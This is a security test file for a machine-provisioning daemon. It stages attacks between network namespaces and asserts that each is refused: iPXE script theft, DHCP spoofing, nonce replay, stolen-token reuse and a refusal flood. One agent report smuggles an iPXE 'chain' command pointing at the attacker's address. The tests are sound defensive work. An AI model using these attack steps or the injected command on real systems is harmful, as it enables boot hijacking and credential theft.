// Issue 11, items 1, 2 and 5 (boot secrets, agent logs, refusals), attacked for real: the daemon
// in one network namespace on a bridge, the victim machine (node-01, 10.20.0.11) in a second and
// the attacker in a third — a deployed tenant machine on the same bridge (node-02, 10.20.0.12)
// with its own address. Both speak with curl and busybox wget. Each test performs the attack,
// and each attack is refused while the machine's own requests still work.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ChildProcess } from 'node:child_process';
import Database from 'better-sqlite3';
import { Netns } from '../lib/netns.js';
import { tempDir } from '../lib/tmp.js';
import { REPO, ADMIN_TOKEN, prepareStateDir } from '../lib/daemon.js';

const BASE = 'http://10.20.0.1:8080';
/** The operator's side: the API is not served on the provisioning address. */
const API = 'http://127.0.0.1:8080';
const VICTIM = { name: 'node-01', mac: '52:54:00:00:01:01', ip: '10.20.0.11' };
const ATTACKER = { name: 'node-02', mac: '52:54:00:00:01:02', ip: '10.20.0.12' };
const FACTS = (mac: string) => JSON.stringify({ cpus: 2, memory_mib: 512, arch: 'x86_64', disks: [{ name: 'vda', size_bytes: 2 ** 31 }], nics: [{ name: 'eth0', mac, link: true }] });

let srv: Netns;
let victim: Netns;
let attacker: Netns;
let daemon: ChildProcess;
let dir = '';
let state = '';
let daemonLog = '';

before(async () => {
  dir = tempDir('secrets');
  state = join(dir, 'state');
  prepareStateDir(state);
  writeFileSync(join(dir, 'inventory.yaml'), `
site:
  interface: br0
  address: 10.20.0.1
  http_port: 8080
  dhcp: { mode: full, subnet: 10.20.0.0/24 }
  images_dir: ${join(dir, 'images')}
  templates_dir: ${join(REPO, 'templates')}
profiles:
  tenant-image:
    kind: image
    image: { url: images/tenant.raw, sha256: "${'ab'.repeat(32)}" }
    user_data: cloud-init/user-data.j2
machines:
  - { name: ${VICTIM.name}, mac: "${VICTIM.mac}", ip: ${VICTIM.ip}, profile: tenant-image }
  - { name: ${ATTACKER.name}, mac: "${ATTACKER.mac}", ip: ${ATTACKER.ip}, profile: tenant-image }
`);
  srv = await Netns.create('sec');
  await srv.ip('link', 'add', 'br0', 'type', 'bridge');
  await srv.ip('addr', 'add', '10.20.0.1/24', 'dev', 'br0');
  await srv.ip('link', 'set', 'br0', 'up');
  victim = await Netns.create('vic');
  attacker = await Netns.create('att');
  for (const [ns, m, port] of [[victim, VICTIM, 'pv'], [attacker, ATTACKER, 'pa']] as const) {
    await srv.ip('link', 'add', port, 'type', 'veth', 'peer', 'name', 'eth0', 'netns', ns.name);
    await srv.ip('link', 'set', port, 'master', 'br0');
    await srv.ip('link', 'set', port, 'up');
    await ns.ip('link', 'set', 'eth0', 'address', m.mac);
    // The machine's reservation: the address DHCP would give it.
    await ns.ip('addr', 'add', `${m.ip}/24`, 'dev', 'eth0');
    await ns.ip('link', 'set', 'eth0', 'up');
  }
  daemon = srv.spawn(process.execPath, ['--import', 'tsx', join(REPO, 'daemon/cli/main.ts'), 'serve', '--inventory', join(dir, 'inventory.yaml'), '--state-dir', state, '--no-power'], { cwd: REPO });
  await new Promise<void>((resolve, reject) => {
    daemon.stdout!.on('data', (b: Buffer) => { daemonLog = (daemonLog + b).slice(-20_000); if (daemonLog.includes('HTTP listening')) resolve(); });
    daemon.stderr!.on('data', (b: Buffer) => { daemonLog = (daemonLog + b).slice(-20_000); });
    daemon.once('exit', (code) => reject(new Error(`daemon exited ${code}: ${daemonLog}`)));
  });
});

after(async () => {
  if (daemon && daemon.exitCode === null) daemon.kill('SIGKILL');
  for (const ns of [victim, attacker, srv]) if (ns) await ns.delete();
});

interface Reply { status: number; body: string }

/** curl from a namespace: the body and the status. */
async function curl(ns: Netns, url: string, opts: { data?: string; dataFile?: string; method?: string; headers?: Record<string, string> } = {}): Promise<Reply> {
  const args = ['-sS', '-m', '10', '-w', '\n%{http_code}'];
  if (opts.method) args.push('-X', opts.method);
  if (opts.data !== undefined) args.push('--data-binary', opts.data);
  if (opts.dataFile !== undefined) args.push('--data-binary', `@${opts.dataFile}`);
  for (const [k, v] of Object.entries(opts.headers ?? {})) args.push('-H', `${k}: ${v}`);
  const out = await ns.exec('curl', [...args, url]);
  const cut = out.lastIndexOf('\n');
  return { status: Number(out.slice(cut + 1)), body: out.slice(0, cut) };
}

/** busybox wget from a namespace: the body, or the HTTP status it failed with. */
async function wget(ns: Netns, url: string, postData?: string): Promise<Reply> {
  try {
    const body = await ns.exec('busybox', ['wget', '-q', '-O', '-', ...(postData !== undefined ? ['--post-data', postData] : []), url]);
    return { status: 200, body };
  } catch (err) {
    const m = /HTTP\/1\.[01] (\d{3})/.exec((err as Error).message);
    return { status: m ? Number(m[1]) : 0, body: (err as Error).message };
  }
}

const admin = async (method: string, path: string, body: object = {}) => {
  const r = await curl(srv, `${API}${path}`, { method, headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'application/json' }, ...(method === 'POST' ? { data: JSON.stringify(body) } : {}) });
  return JSON.parse(r.body) as Record<string, any>;
};
const machine = async (name: string) => (await admin('GET', `/api/v1/machines/${name}`)).machine as { state: string; last_error: string | null };
const vars = (text: string) => Object.fromEntries(text.trim().split('\n').map((l) => {
  const m = /^([a-z_0-9]+)='(.*)'$/.exec(l);
  assert.ok(m, `not a shell assignment: ${l}`);
  return [m[1], m[2]!.replace(/'\\''/g, "'")];
}));

/** What a machine's firmware and agent do: fetch the script, trade its nonce, keep the agent token. */
async function boot(ns: Netns, m: typeof VICTIM): Promise<{ script: string; nonce: string; agent: Record<string, string> }> {
  const script = await curl(ns, `${BASE}/boot/${m.mac}.ipxe`);
  assert.equal(script.status, 200, script.body);
  const nonce = /rackhand\.nonce=(\S+)/.exec(script.body)?.[1];
  assert.ok(nonce, `no nonce in\n${script.body}`);
  const traded = await wget(ns, `${BASE}/v1/agent/nonce`, `nonce=${nonce}`);
  assert.equal(traded.status, 200, traded.body);
  return { script: script.body, nonce, agent: { 'x-rackhand-agent-token': vars(traded.body).agent_token! } };
}
const report = (ns: Netns, agent: Record<string, string>, fields: Record<string, string>) =>
  curl(ns, `${BASE}/v1/agent/report`, { data: new URLSearchParams(fields).toString(), headers: agent });

const stolen: { op?: string; agent?: Record<string, string> } = {};

test('the attacker becomes a deployed tenant machine through its own, legitimate boots', async () => {
  await admin('POST', `/api/v1/machines/${ATTACKER.name}/actions/inspect`);
  let a = await boot(attacker, ATTACKER);
  assert.equal((await report(attacker, a.agent, { step: 'inspect', status: 'done', facts: FACTS(ATTACKER.mac) })).status, 200);
  await admin('POST', `/api/v1/machines/${ATTACKER.name}/actions/allocate`, { owner: 'mallory' });
  await admin('POST', `/api/v1/machines/${ATTACKER.name}/actions/deploy`);
  a = await boot(attacker, ATTACKER);
  const seed = vars((await report(attacker, a.agent, { step: 'image', status: 'done' })).body).seed_url!;
  assert.equal(vars((await report(attacker, a.agent, { step: 'configure', status: 'done' })).body).step, 'reboot');
  const own = seed.replace(/^http:\/\/[^/]+/, BASE);
  assert.equal((await curl(attacker, own.replace('/nocloud/', '/phone-home/').replace(/\/$/, ''), { method: 'POST' })).status, 200);
  assert.equal((await machine(ATTACKER.name)).state, 'deployed');
  // Its own metadata stays readable to it while it is deployed.
  const userData = await wget(attacker, `${own}user-data`);
  assert.equal(userData.status, 200);
  assert.match(userData.body, /^hostname: "?node-02"?$/m);
});

test('attacker fetching another machine\'s iPXE script: 403, with curl and with busybox wget', async () => {
  await admin('POST', `/api/v1/machines/${VICTIM.name}/actions/inspect`);
  const v = await boot(victim, VICTIM);
  assert.equal((await report(victim, v.agent, { step: 'inspect', status: 'done', facts: FACTS(VICTIM.mac) })).status, 200);
  assert.equal((await machine(VICTIM.name)).state, 'ready');
  await admin('POST', `/api/v1/machines/${VICTIM.name}/actions/deploy`);
  assert.equal((await curl(attacker, `${BASE}/boot/${VICTIM.mac}.ipxe`)).status, 403);
  assert.equal((await curl(attacker, `${BASE}/boot/${VICTIM.mac.replace(/:/g, '%3A')}.ipxe`)).status, 403);
  assert.equal((await wget(attacker, `${BASE}/boot/${VICTIM.mac}.ipxe`)).status, 403);
  const own = await curl(victim, `${BASE}/boot/${VICTIM.mac}.ipxe`);
  assert.equal(own.status, 200);
  assert.match(own.body, /rackhand\.nonce=/);
  assert.doesNotMatch(own.body, /token/);
});

test('a DHCP message claiming the victim\'s MAC from the attacker\'s address does not make that address the victim\'s', async () => {
  // DHCPINFORM and a renewing DHCPREQUEST both carry ciaddr, which the sender writes itself.
  for (const type of ['inform', 'request']) {
    await attacker.exec(process.execPath, ['--import', 'tsx', join(REPO, 'tests/security/dhcp-claim.ts'), type, VICTIM.mac, ATTACKER.ip, '10.20.0.1']);
  }
  await new Promise((r) => setTimeout(r, 300));
  assert.equal((await curl(attacker, `${BASE}/boot/${VICTIM.mac}.ipxe`)).status, 403, 'the claimed address is not the victim\'s');
  assert.equal((await curl(victim, `${BASE}/boot/${VICTIM.mac}.ipxe`)).status, 200, 'the victim still is');
});

test('a stolen nonce is useless from the attacker\'s address and stays good for the machine', async () => {
  const script = await curl(victim, `${BASE}/boot/${VICTIM.mac}.ipxe`);
  const nonce = /rackhand\.nonce=(\S+)/.exec(script.body)![1]!;
  assert.equal((await wget(attacker, `${BASE}/v1/agent/nonce`, `nonce=${nonce}`)).status, 403);
  const traded = await wget(victim, `${BASE}/v1/agent/nonce`, `nonce=${nonce}`);
  assert.equal(traded.status, 200, 'the attacker\'s attempt did not use the nonce up');
  stolen.agent = { 'x-rackhand-agent-token': vars(traded.body).agent_token! };
  const next = vars((await curl(victim, `${BASE}/v1/agent/next`, { headers: stolen.agent })).body);
  assert.equal(next.step, 'image');
});

test('nonce replay: a second trade is refused, even from the machine, and recorded', async () => {
  const script = await curl(victim, `${BASE}/boot/${VICTIM.mac}.ipxe`);
  const nonce = /rackhand\.nonce=(\S+)/.exec(script.body)![1]!;
  const first = await curl(victim, `${BASE}/v1/agent/nonce`, { data: `nonce=${nonce}` });
  assert.equal(first.status, 200);
  stolen.agent = { 'x-rackhand-agent-token': vars(first.body).agent_token! };
  assert.equal((await curl(victim, `${BASE}/v1/agent/nonce`, { data: `nonce=${nonce}` })).status, 403);
  assert.equal((await curl(attacker, `${BASE}/v1/agent/nonce`, { data: `nonce=${nonce}` })).status, 403);
  // A fetched script replaces the nonce: an older, untraded one dies too.
  const older = /rackhand\.nonce=(\S+)/.exec((await curl(victim, `${BASE}/boot/${VICTIM.mac}.ipxe`)).body)![1]!;
  await curl(victim, `${BASE}/boot/${VICTIM.mac}.ipxe`);
  assert.equal((await curl(victim, `${BASE}/v1/agent/nonce`, { data: `nonce=${older}` })).status, 403);
  const events = (await admin('GET', `/api/v1/events?machine=${VICTIM.name}&limit=200`)).events as { event: string; cause: string; actor: string }[];
  assert.ok(events.some((e) => e.event === 'refused' && /already traded \(replay\)/.test(e.cause) && e.actor === `http:${VICTIM.ip}`), JSON.stringify(events.slice(-5)));
  assert.ok(!JSON.stringify(events).includes(nonce), 'the nonce itself is never written');
});

test('stolen tokens used from the attacker\'s address: user-data, answer, phone-home, image done — 403, state unchanged', async () => {
  // The victim's agent finishes the image; the daemon's answer names the NoCloud seed URL, whose
  // token the attacker has somehow learnt (a log, a shoulder), along with the agent token.
  const configure = vars((await report(victim, stolen.agent!, { step: 'image', status: 'done' })).body);
  assert.equal(configure.step, 'configure');
  stolen.op = /\/v1\/nocloud\/([^/]+)\/$/.exec(configure.seed_url!)![1]!;
  const before = await machine(VICTIM.name);
  assert.equal(before.state, 'deploying');
  for (const file of ['user-data', 'meta-data', 'network-config', 'vendor-data']) {
    assert.equal((await curl(attacker, `${BASE}/v1/nocloud/${stolen.op}/${file}`)).status, 403, file);
  }
  assert.equal((await wget(attacker, `${BASE}/v1/nocloud/${stolen.op}/user-data`)).status, 403);
  assert.equal((await curl(attacker, `${BASE}/v1/answer/${stolen.op}`)).status, 403);
  assert.equal((await curl(attacker, `${BASE}/v1/phone-home/${stolen.op}`, { method: 'POST' })).status, 403);
  assert.equal((await wget(attacker, `${BASE}/v1/phone-home/${stolen.op}`, 'x=1')).status, 403);
  assert.equal((await report(attacker, stolen.agent!, { step: 'configure', status: 'done' })).status, 403);
  assert.equal((await report(attacker, stolen.agent!, { step: 'image', status: 'failed', message: 'x' })).status, 403);
  assert.equal((await curl(attacker, `${BASE}/v1/agent/next`, { headers: stolen.agent! })).status, 403);
  assert.equal((await curl(attacker, `${BASE}/v1/agent/log`, { data: 'forged line', headers: stolen.agent! })).status, 403);
  const after = await machine(VICTIM.name);
  assert.deepEqual(after, before, 'the victim is exactly as it was');
  // The machine itself still reads its own data.
  const own = await curl(victim, `${BASE}/v1/nocloud/${stolen.op}/user-data`);
  assert.equal(own.status, 200);
  assert.match(own.body, /^hostname: "?node-01"?$/m);
});

test('agent log: capped at 1 MiB per operation with one marker line', async () => {
  const line = `${'L'.repeat(1000)}\n`;
  const chunk = join(dir, 'chunk.txt');
  writeFileSync(chunk, line.repeat(200)); // ~200 kB per call
  for (let i = 0; i < 8; i++) {
    assert.equal((await curl(victim, `${BASE}/v1/agent/log`, { dataFile: chunk, headers: { ...stolen.agent!, 'content-type': 'text/plain' } })).status, 204);
  }
  const logs = join(state, 'oplogs', VICTIM.name);
  const files = readdirSync(logs).map((f) => join(logs, f)).filter((f) => statSync(f).size > 100_000);
  assert.equal(files.length, 1);
  const text = readFileSync(files[0]!, 'utf8');
  assert.ok(text.length <= 1 << 20, `${text.length} bytes`);
  assert.ok(text.length > (1 << 20) - 2000, `${text.length} bytes: filled up to the cap`);
  assert.equal(text.match(/agent log truncated/g)?.length, 1);
  assert.ok(text.trimEnd().endsWith('the operation reached its 1 MiB cap'));
});

test('agent report with an iPXE injection: the machine\'s next script carries no such command; logs after the end refused', async () => {
  const r = await report(victim, stolen.agent!, { step: 'configure', status: 'failed', message: 'x ; chain http://10.20.0.12/p.ipxe #' });
  assert.equal(r.status, 200);
  assert.equal(vars(r.body).step, 'poweroff');
  const m = await machine(VICTIM.name);
  assert.equal(m.state, 'failed');
  assert.match(m.last_error ?? '', /chain http:\/\/10\.20\.0\.12/, 'the record keeps what the agent said');
  const script = (await curl(victim, `${BASE}/boot/${VICTIM.mac}.ipxe`)).body;
  const commands = script.split('\n').filter((l) => l && !l.startsWith('#')).flatMap((l) => l.split(/;|&&|\|\|/)).map((c) => c.trim().split(/\s+/)[0]);
  assert.deepEqual(commands, ['echo', 'exit'], script);
  assert.doesNotMatch(script, /[;&|]/);
  // The operation ended: its agent token is dead, and with it logs and reports.
  assert.equal((await curl(victim, `${BASE}/v1/agent/log`, { data: 'late line', headers: stolen.agent! })).status, 403);
  assert.equal((await curl(victim, `${BASE}/v1/agent/next`, { headers: stolen.agent! })).status, 403);
  assert.equal((await curl(victim, `${BASE}/v1/nocloud/${stolen.op}/user-data`)).status, 403, 'the failed deployment\'s metadata died with it');
});

test('refusal flood: every request refused, one event per source per minute, with the count', async () => {
  const rows = () => admin('GET', '/api/v1/events?limit=10000').then((r) => (r.events as { actor: string; kind: string }[]).filter((e) => e.kind === 'auth' && e.actor === `http:${ATTACKER.ip}`).length);
  const before = await rows();
  const urls = Array.from({ length: 400 }, (_, i) => (i % 2 ? `${BASE}/boot/${VICTIM.mac}.ipxe` : `${BASE}/v1/nocloud/${'t'.repeat(20)}${i}/user-data`));
  const codes = (await attacker.exec('curl', ['-sS', '-w', '%{http_code}\n', ...urls.flatMap((u) => ['-o', '/dev/null', u])])).trim().split('\n');
  assert.equal(codes.length, 400);
  assert.ok(codes.every((c) => c === '403'), [...new Set(codes)].join(' '));
  assert.ok((await rows()) - before <= 1, 'at most the window\'s opening event was written during the flood');
  // Unknown MACs leave nothing behind either.
  const unknown = Array.from({ length: 200 }, (_, i) => `${BASE}/boot/52:54:00:ee:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}.ipxe`);
  await attacker.exec('curl', ['-sS', ...unknown.flatMap((u) => ['-o', '/dev/null', u])]);
  assert.equal((await admin('GET', '/api/v1/machines')).machines.length, 2, 'no machine enrolled by HTTP');
  // At shutdown the counted refusals are written as one event; together they account for all.
  daemon.kill('SIGTERM');
  await new Promise((r) => daemon.once('exit', r));
  const db = new Database(join(state, 'rackhand.db'), { readonly: true });
  const events = db.prepare("SELECT data FROM events WHERE kind = 'auth' AND actor = ?").all(`http:${ATTACKER.ip}`) as { data: string }[];
  db.close();
  const counted = events.reduce((n, e) => n + (JSON.parse(e.data) as { count: number }).count, 0);
  assert.ok(events.length <= before + 2, `${events.length} rows`);
  assert.ok(counted >= 400, `the events count ${counted} refusals`);
  assert.ok(existsSync(join(state, 'rackhand.db')));
});
